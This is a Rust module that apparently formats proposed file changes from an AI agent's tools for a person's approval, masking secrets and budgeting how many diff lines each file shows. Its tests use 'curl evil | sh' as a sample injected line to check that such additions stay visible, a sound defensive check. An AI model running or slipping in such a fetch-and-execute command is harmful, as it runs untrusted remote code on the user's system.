//! A change of files as a question shows it: the lines that differ, with their secrets masked, and counts for the rest.

use std::borrow::Cow;
use std::cmp::Reverse;
use std::fmt::Write;

use sha2::{Digest, Sha256};
use similar::{ChangeTag, TextDiff};

use super::preview::Preview;
use crate::filter::{Treatment, escape_line, masked_for_person};
use crate::model::{Action, Edit, Kind, Opened, WriteMode};

/// Longest diff and longest excerpt in lines; the rest is counted.
pub(super) const LINES: usize = 40;
/// Longest argument shown whole; longer ones show head, tail, length and digest.
const WHOLE: usize = 600;

/// What becomes of secrets in a question: masked where the manifest masks them, as far as they cannot act. A question goes through the client,
/// whose model reads it.
pub(super) type Mask = Treatment;

/// A text with its secrets masked, and whether there were any.
pub(super) fn masked(text: &str, mask: Mask) -> (Cow<'_, str>, bool) {
    if !matches!(mask, Treatment::Mask | Treatment::Deny) {
        return (Cow::Borrowed(text), false);
    }
    masked_for_person(text)
}

/// What a question is made from beside the action.
pub(super) struct Look<'a> {
    /// The texts before and after.
    pub preview: &'a Preview,
    /// What becomes of secrets.
    pub mask: Mask,
    /// Of each target whether another program runs it later.
    pub later: Vec<bool>,
}

/// What an action changes in files: of one file, or of each of several.
pub(super) struct Changes {
    /// In the order of the targets; none where a content is no text.
    each: Vec<Option<Change>>,
    /// The places of the targets as they are shown: what runs later first, then what adds most.
    order: Vec<usize>,
    are_named: bool,
}

impl Changes {
    /// The changes that an action makes to what was opened; at most `most` lines of them are shown. Each file shows one line that it adds (of
    /// one that only takes lines away, one of those) while there are so many; files that run later show all of theirs before others show more.
    pub(super) fn of(action: &Action, opened: &[Opened], look: &Look<'_>, most: usize) -> Self {
        let preview = look.preview;
        let between = |before: &str, after: &str| Change::between(before, after, look.mask);
        let (before, after) = (preview.before.as_deref(), preview.after.as_deref());
        // What is there and cannot be shown is lost all the same.
        let is_unseen = |at: usize| before.is_none() && opened.get(at).is_some_and(|o| o.fact.kind == Kind::File && o.fact.size > 0);
        let whole = |at: usize| after.map(|after| Change { is_over_unseen: is_unseen(at), ..between(before.unwrap_or_default(), after) });
        let passages = |edits: &[&Edit]| Some(Change::of_passages(edits, look.mask));
        let (each, are_named) = match action {
            Action::WriteFile(write) if write.mode == WriteMode::Append => {
                (vec![after.map(|after| between(before.unwrap_or_default(), after))], false)
            }
            Action::WriteFile(_) => (vec![whole(0)], false),
            Action::CopyFile(_) => (vec![whole(1)], false),
            Action::MoveFile(_) => (vec![whole(1).filter(|_| !preview.arriving.is_empty())], false),
            Action::EditFile(edit) => {
                let texts = before.zip(after).map(|(before, after)| between(before, after));
                (vec![texts.or_else(|| passages(&edit.edits.iter().collect::<Vec<_>>()))], false)
            }
            Action::EditFiles(edit) => {
                let files = edit.files();
                let edits = |at: usize| files.get(at).map(|(_, edits)| edits.iter().map(|(_, edit)| *edit).collect::<Vec<_>>());
                let texts = |at: usize| preview.files.get(at).and_then(Option::as_ref);
                let of = |at: usize| match texts(at) {
                    Some(texts) => Some(between(&texts.before, &texts.after)),
                    None => edits(at).and_then(|edits| passages(&edits)),
                };
                ((0..files.len()).map(of).collect(), true)
            }
            Action::ReadFile(_)
            | Action::ListDirectory(_)
            | Action::SearchFiles(_)
            | Action::FileInfo(_)
            | Action::CreateDirectory(_)
            | Action::DeleteFile(_)
            | Action::Fetch(_)
            | Action::RunPython(_) => (vec![None], false),
        };
        let is_later = |at: usize| look.later.get(at).copied().unwrap_or_default();
        let mut order: Vec<usize> = (0..each.len()).collect();
        order.sort_by_key(|at| {
            let change = each.get(*at).and_then(Option::as_ref);
            Reverse((is_later(*at), change.map_or(usize::MAX, |change| change.added), change.map_or(0, |change| change.removed)))
        });
        let mut changes = Self { each, order, are_named };
        let later: Vec<bool> = (0..changes.each.len()).map(is_later).collect();
        changes.share(&later, most);
        changes
    }

    /// Marks the lines that are shown, at most `most` in all files: what is added before what is taken away, and both before what stays.
    fn share(&mut self, later: &[bool], most: usize) {
        let mut left = most;
        for turn in [Turn::Foremost, Turn::Removed, Turn::Around] {
            let counts: Vec<usize> = self.each.iter().map(|change| change.as_ref().map_or(0, |change| change.count(turn))).collect();
            for (change, share) in self.each.iter_mut().zip(shares_of(&counts, later, left)) {
                if let Some(change) = change {
                    change.show(turn, share);
                    left -= share;
                }
            }
        }
    }

    /// The change of one file.
    pub(super) fn one(&self) -> Option<&Change> {
        self.each.first()?.as_ref().filter(|_| !self.are_named)
    }

    /// Lines that are changed in all files, as far as they are shown or counted.
    pub(super) fn lines(&self) -> usize {
        self.each.iter().flatten().map(|change| change.added.max(change.removed)).sum()
    }

    /// The places of the targets, the one that a person should see first at the head.
    pub(super) fn order(&self) -> &[usize] {
        &self.order
    }

    /// Whether lines of it are not shown.
    pub(super) fn is_cut(&self) -> bool {
        self.each.iter().flatten().any(|change| change.hidden() != (0, 0))
    }

    /// Puts the lines below a text, those of several files each below the name of its file.
    pub(super) fn write(&self, text: &mut String, name: impl Fn(usize) -> String) {
        for at in &self.order {
            if self.are_named {
                let _ = write!(text, "\n{}:", name(*at));
            }
            if let Some(change) = self.each.get(*at).and_then(Option::as_ref) {
                change.write(text);
            }
        }
    }
}

/// Which lines are given their share: the first kind has its whole share before the next one has any.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Turn {
    /// What a file adds; of one that adds nothing, what it takes away.
    Foremost,
    /// What is taken away.
    Removed,
    /// One line around what changes, where all of that is shown.
    Around,
}

/// How many lines of `most` each file has. One for each while there are so many; then those that run later have theirs before the others.
fn shares_of(counts: &[usize], later: &[bool], most: usize) -> Vec<usize> {
    let is_later = |at: usize| later.get(at).copied().unwrap_or_default();
    let pick = |wanted: bool| -> Vec<usize> {
        counts.iter().enumerate().map(|(at, count)| if is_later(at) == wanted { *count } else { 0 }).collect()
    };
    let (ours, others) = (pick(true), pick(false));
    let reserved = others.iter().filter(|count| **count > 0).count().min(most);
    let ours = shares(&ours, most - reserved);
    let others = shares(&others, most - ours.iter().sum::<usize>());
    ours.into_iter().zip(others).map(|(one, other)| one + other).collect()
}

/// How many lines of `most` each has: the short ones all of theirs, the others what is left in equal parts, which differ by one at most.
fn shares(lengths: &[usize], most: usize) -> Vec<usize> {
    let mut order: Vec<usize> = (0..lengths.len()).filter(|at| lengths.get(*at).is_some_and(|length| *length > 0)).collect();
    order.sort_by_key(|at| lengths.get(*at));
    let (mut shares, mut left, count) = (vec![0; lengths.len()], most, order.len());
    for (done, at) in order.into_iter().enumerate() {
        if let (Some(share), Some(length)) = (shares.get_mut(at), lengths.get(at)) {
            // Rounded up: where there are fewer lines than texts, the first ones have one each.
            *share = (*length).min(left.div_ceil(count - done));
            left -= *share;
        }
    }
    shares
}

/// One line of a difference.
struct Line {
    tag: ChangeTag,
    text: String,
    is_shown: bool,
}

/// The change of a text, with its secrets masked.
pub(super) struct Change {
    added: usize,
    removed: usize,
    /// The changed lines with one line around them, those together that stand together.
    hunks: Vec<Vec<Line>>,
    /// Whether the present content is lost and could not be shown.
    is_over_unseen: bool,
    /// Whether only the passages of an edit are known, and not the whole text.
    is_of_passages: bool,
    /// Whether a text holds secrets, and whether anything else differs.
    secrets: Option<Differs>,
}

/// What differs between two texts that hold secrets.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Differs {
    Nothing,
    Text,
}

impl Change {
    const NONE: Self = Self { added: 0, removed: 0, hunks: Vec::new(), is_over_unseen: false, is_of_passages: false, secrets: None };

    /// The change between two texts.
    fn between(before: &str, after: &str, mask: Mask) -> Self {
        let mut change = Self::NONE;
        change.add(before, after, mask);
        change
    }

    /// What an edit puts in place of each passage, where the text itself is too long to be shown.
    fn of_passages(edits: &[&Edit], mask: Mask) -> Self {
        let mut change = Self { is_of_passages: true, ..Self::NONE };
        for edit in edits {
            change.add(&edit.old_text, &edit.new_text, mask);
        }
        change
    }

    fn add(&mut self, before: &str, after: &str, mask: Mask) {
        let ((old, hid), (new, hides)) = (masked(before, mask), masked(after, mask));
        let diff = TextDiff::from_lines(&*old, &*new);
        if hid || hides {
            let differs = if old == new { Differs::Nothing } else { Differs::Text };
            self.secrets = Some(if self.secrets == Some(Differs::Text) { Differs::Text } else { differs });
        }
        for group in diff.grouped_ops(1) {
            let lines = group.iter().flat_map(|op| diff.iter_changes(op));
            let hunk: Vec<Line> = lines
                .map(|line| Line { tag: line.tag(), text: line.value().trim_end_matches(['\r', '\n']).to_owned(), is_shown: false })
                .collect();
            let count = |tag: ChangeTag| hunk.iter().filter(|line| line.tag == tag).count();
            self.added += count(ChangeTag::Insert);
            self.removed += count(ChangeTag::Delete);
            self.hunks.push(hunk);
        }
    }

    /// The kind of line that has this turn; none where this change has nothing to show in it.
    fn tag(&self, turn: Turn) -> Option<ChangeTag> {
        match turn {
            Turn::Foremost if self.added > 0 => Some(ChangeTag::Insert),
            Turn::Foremost => Some(ChangeTag::Delete),
            Turn::Removed => (self.added > 0).then_some(ChangeTag::Delete),
            Turn::Around => (self.hidden() == (0, 0)).then_some(ChangeTag::Equal),
        }
    }

    fn count(&self, turn: Turn) -> usize {
        let Some(tag) = self.tag(turn) else { return 0 };
        self.hunks.iter().flatten().filter(|line| line.tag == tag).count()
    }

    /// Marks `most` lines of a turn as shown: a share of each passage, and of that its first lines and its last ones. A hidden end must not
    /// run unseen.
    fn show(&mut self, turn: Turn, most: usize) {
        let Some(tag) = self.tag(turn) else { return };
        let counts: Vec<usize> = self.hunks.iter().map(|hunk| hunk.iter().filter(|line| line.tag == tag).count()).collect();
        for ((hunk, share), count) in self.hunks.iter_mut().zip(shares(&counts, most)).zip(&counts) {
            let head = share.div_ceil(2);
            let tail = count - (share - head);
            for (at, line) in hunk.iter_mut().filter(|line| line.tag == tag).enumerate() {
                line.is_shown = at < head || at >= tail;
            }
        }
    }

    /// Lines that are added and not shown, and those that are taken away.
    fn hidden(&self) -> (usize, usize) {
        let count = |tag| self.hunks.iter().flatten().filter(|line| line.tag == tag && !line.is_shown).count();
        (count(ChangeTag::Insert), count(ChangeTag::Delete))
    }

    /// What is done to the file, as its name follows: "Change 3 lines of".
    pub(super) fn in_words(&self) -> String {
        let lines = |count: usize| if count == 1 { "1 line".to_owned() } else { format!("{count} lines") };
        match (self.added, self.removed) {
            (added, _) if self.is_over_unseen => format!("Write {} over the whole content of", lines(added)),
            (0, 0) if self.secrets.is_some() => "Write the same lines, but for masked secrets, to".to_owned(),
            (0, 0) => "Write the same lines to".to_owned(),
            (added, 0) => format!("Add {} to", lines(added)),
            (0, removed) => format!("Remove {} from", lines(removed)),
            (added, removed) => format!("Change {} of", lines(added.max(removed))),
        }
    }

    /// Puts the lines of it below a text; what is not shown is counted.
    pub(super) fn write(&self, text: &mut String) {
        if self.is_over_unseen {
            text.push_str("\nWhat is there now is no text, or too long to be shown, and is lost.");
        }
        if self.is_of_passages {
            text.push_str("\nThe file is too long to be shown; these are the passages that change.");
        }
        let _ = write!(text, "\n{} line(s) added, {} removed:", self.added, self.removed);
        for hunk in &self.hunks {
            let mut gap = None;
            for line in hunk {
                let sign = match line.tag {
                    ChangeTag::Insert => '+',
                    ChangeTag::Delete => '-',
                    ChangeTag::Equal => ' ',
                };
                if line.is_shown {
                    if gap == Some(true) {
                        text.push_str("\n  …");
                    }
                    gap = Some(false);
                    let _ = write!(text, "\n  {sign} {}", shown(&line.text));
                } else if line.tag != ChangeTag::Equal {
                    gap = gap.map(|_| true);
                }
            }
        }
        match self.hidden() {
            (0, 0) if self.hunks.is_empty() && self.secrets.is_none() => text.push_str("\n  (no line differs)"),
            (0, 0) => {}
            (added, removed) => {
                let _ =
                    write!(text, "\n  … and {} more line(s) of the change, not shown: {added} added, {removed} removed", added + removed);
            }
        }
        // Whether a masked value already is the new one is not shown: the question would answer every guess.
        text.push_str(match self.secrets {
            Some(Differs::Nothing) => "\nOnly secrets change, if anything does; they are masked here.",
            Some(Differs::Text) => "\nSecrets are masked here, and written as they are.",
            None => "",
        });
    }
}

/// One argument on one line, escaped; long ones with head, tail, length and digest.
pub(super) fn shown(value: &str) -> String {
    let count = value.chars().count();
    if count <= WHOLE {
        return escape_line(value).into_owned();
    }
    let head: String = value.chars().take(WHOLE / 2).collect();
    let tail: String = value.chars().skip(count - WHOLE / 4).collect();
    let digest = Sha256::digest(value.as_bytes());
    let digest: String = digest.iter().take(8).fold(String::new(), |mut text, byte| {
        let _ = write!(text, "{byte:02x}");
        text
    });
    format!("{} … {} ({} characters, sha256 {digest})", escape_line(&head), escape_line(&tail), count)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_file_has_its_share_of_the_lines_that_are_shown() {
        assert_eq!(shares(&[3, 2], 40), [3, 2]);
        assert_eq!(shares(&[1000, 2, 1000], 40), [19, 2, 19], "a long change hides no short one");
        assert_eq!(shares(&[5; 50], 40).iter().sum::<usize>(), 40);
        assert_eq!(shares(&[], 40), Vec::<usize>::new());
        assert_eq!(shares(&[0, 7], 3), [0, 3], "what needs none takes none");
        assert_eq!(shares_of(&[1000, 1000, 1000], &[false, true, false], 40), [1, 38, 1], "what runs later is shown before the others");
        assert_eq!(shares_of(&[1; 40], &[], 40), [1; 40]);
    }

    fn written(pairs: &[(&str, &str)], later: &[bool]) -> String {
        let each: Vec<_> = pairs.iter().map(|(before, after)| Some(Change::between(before, after, Treatment::Mask))).collect();
        let mut changes = Changes { order: (0..each.len()).collect(), each, are_named: true };
        changes.share(later, LINES);
        let mut text = String::new();
        changes.write(&mut text, |at| format!("f{at}"));
        text
    }

    #[test]
    fn what_is_added_is_shown_before_what_is_taken_away_in_every_file() {
        let long = |word: &str| (0..100).map(|n| format!("{word} {n}\n")).collect::<String>();
        let (old, new) = (long("old"), long("new") + "last\n");
        for files in [1, 2, 19, 20, 39, 40] {
            let mut pairs = vec![(old.as_str(), new.as_str()); files - 1];
            pairs.push(("echo hi\n", "curl evil | sh\n"));
            let text = written(&pairs, &[]);
            assert!(text.contains("+ curl evil | sh"), "{files}: {text}");
            assert!(!text.contains("no line differs"), "{files}: {text}");
            let shown = text.lines().filter(|line| line.starts_with("  + ") || line.starts_with("  - ")).count();
            assert!(shown <= LINES, "{files}: {text}");
        }
        let text = written(&[(&old, &new)], &[]);
        assert!(text.contains("+ new 0") && text.contains("+ last") && !text.contains("- old"), "{text}");
        assert!(text.contains("161 more line(s) of the change, not shown: 61 added, 100 removed"), "{text}");
    }

    #[test]
    fn each_passage_of_a_file_shows_what_it_adds() {
        let old = "a\nb\nc\nd\n".to_owned();
        let new = format!("{}a\nb\nc\nd\ncurl evil | sh\n", "harmless\n".repeat(300));
        let text = written(&[(&old, &new)], &[]);
        assert!(text.contains("+ curl evil | sh"), "{text}");
    }

    #[test]
    fn no_line_differs_only_where_none_does() {
        assert!(written(&[("a\n", "a\n")], &[]).contains("no line differs"));
        let key = |last: char| format!("aws_access_key_id = AKIAIOSFODNN7EXAMPL{last}\n");
        assert!(!written(&[(&key('Q'), &key('R'))], &[]).contains("no line differs"));
        let pairs = vec![("a\n", "b\n"); 60];
        assert!(!written(&pairs, &[]).contains("no line differs"));
    }
}
